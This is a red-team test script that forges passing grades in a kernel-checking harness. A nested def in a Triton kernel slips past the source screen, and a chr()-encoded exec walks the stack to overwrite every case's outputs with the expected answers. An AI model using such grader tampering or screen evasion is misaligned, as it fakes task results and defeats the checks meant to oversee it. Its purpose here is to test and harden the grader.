"""Red team 7, P1: 5.1 forged through a nested ``def`` in a Triton kernel. check_triton allows
``ast.FunctionDef`` anywhere and checks a kernel's names against what the *whole* function assigns;
Triton's interpreter compiles only the source from the *last* line starting with ``def``
(FunctionRewriter._find_def, triton 3.9), i.e. the nested ``def kernel0``, where ``exec``/``chr``
(assigned in the outer body, so "own" to the screen) are builtins: ``exec(chr(..)+...)`` runs
lib_forge6's Python, which copies eager's result into the wrapper's buffers.
    python tests/redteam/lib_forge7.py [SEED] [triton|cpp|both]
"""
import json
import os
import sys

os.environ.setdefault("TRITON_INTERPRET", "1")
sys.path.insert(0, os.path.dirname(__file__))
import lib_forge6  # noqa: E402

# Run by the first Triton case in the execute sandbox: every program case of the run (C++ ones
# before it included) gets eager's outputs (libcheck.expect, in the trusted copy), and the
# later cases' _run is replaced, so the C++ kernels (screen-clean, computing nothing) never count.
PY_ALL = """
import sys
f = sys._getframe()
while f is not None and f.f_code.co_name != "execute":
    f = f.f_back
L, G = f.f_locals, f.f_globals
cases, values, out = L["cases"], L["values"], L["out"]
def forged_run(case, got, data, expect=G["expect"]):
    for c in cases:
        if c["kind"] == "program" and c["id"] in out:
            out[c["id"]] = {"outputs": expect([c], values)[c["id"]]}
    return expect([case], values)[case["id"]]
G["_run"] = forged_run
for c in cases:
    if c["kind"] == "program" and c["id"] in out:
        out[c["id"]] = {"outputs": G["expect"]([c], values)[c["id"]]}
""" + lib_forge6.PY.replace("programs()[NAME]", "programs()[L['case']['program']]")


def cpp_source(case: dict, n_args: int) -> str:
    """A screen-clean C++ kernel that computes nothing (its outputs are replaced), with the dead
    log1p lines _through_log1p looks for."""
    times = 2 if case["program"] == "logaddexp_t" else 1
    params = ", ".join([f"const float* in_ptr{i}" for i in range(n_args)] + ["int nthreads"])
    dead = "".join(f"    auto tmp{3 * j} = 0.5;\n    auto tmp{3 * j + 1} = std::log1p(tmp{3 * j});\n"
                   f"    if (tmp{3 * j + 1} > 0) {{}}\n" for j in range(times))
    return f'extern "C" void kernel0({params}) {{\n' + dead + "}\n"


def chars(text: str) -> str:
    """``text`` as an expression of ints and chr only (no string constant)."""
    return "+".join(f"chr({ord(c)})" for c in text)


def triton_source(case: dict) -> str:
    n_in = len(case["inputs"])
    import torch

    from labkit.compiler.ir import flatten
    from labkit.grading.libcases import programs
    examples = [torch.zeros(s["shape"], dtype=getattr(torch, s["dtype"])) for s in case["inputs"]]
    n_out = len(flatten(programs()[case["program"]](*examples)))
    body = PY_ALL
    code = "def run():\n" + "".join("    " + ln + "\n" for ln in body.splitlines()) + "run()\n"
    times = 2 if case["program"] == "logaddexp_t" else 1
    params = [f"in_ptr{i}" for i in range(n_in)] + [f"out_ptr{i}" for i in range(n_out)]
    return (f"@triton.jit\ndef kernel0({', '.join(params)}, BLOCK: tl.constexpr):\n"
            + lib_forge6._log1p_lines("triton", times)
            + "    exec = 0\n    chr = 0\n"
            + f"    def kernel0({', '.join(params)}, BLOCK):\n"
            + "        tmp7 = 0\n"
            + "".join(f"        tmp7 = tmp7 + {chars(code[i:i + 40])}\n" if i else
                      f"        tmp7 = {chars(code[:40])}\n" for i in range(0, len(code), 40))
            + "        exec(tmp7)\n")


def forged_case(case: dict) -> dict:
    got = lib_forge6.forged_case(case)
    if case["target"] == "triton":
        got["kernels"][0]["source"] = triton_source(case)
    else:
        got["kernels"][0]["source"] = cpp_source(case, len(got["kernels"][0]["args"]))
    return got


def forged_problems(seed: int, targets=("cpp", "triton")) -> dict:
    from labkit.grading import libcheck as lc
    cases, values = lc.draw(seed, ("5.1",))
    evidence = {c["id"]: forged_case(c) if c["target"] in targets else {"error": "skipped"}
                for c in cases}
    evidence = json.loads(json.dumps(evidence))
    outputs = json.loads(json.dumps(lc.execute_here(cases, evidence, values)))
    expected = json.loads(json.dumps(lc.expect(cases, values)))
    return lc.judge(cases, evidence, outputs, {}, expected), outputs, cases


if __name__ == "__main__":
    sys.path.insert(0, os.getcwd())
    seed = int(sys.argv[1]) if len(sys.argv) > 1 else 5
    which = sys.argv[2] if len(sys.argv) > 2 else "triton"
    targets = ("cpp", "triton") if which == "both" else (which,)
    problems, outputs, cases = forged_problems(seed, targets)
    for v in problems.get("5.1", []):
        print("PROBLEM", str(v)[:200])
    print("cases:", [(c["program"], c["target"]) for c in cases if c["kind"] == "program"])
    print({k: str(v)[:200] for k, v in outputs.items() if "outputs" not in v})
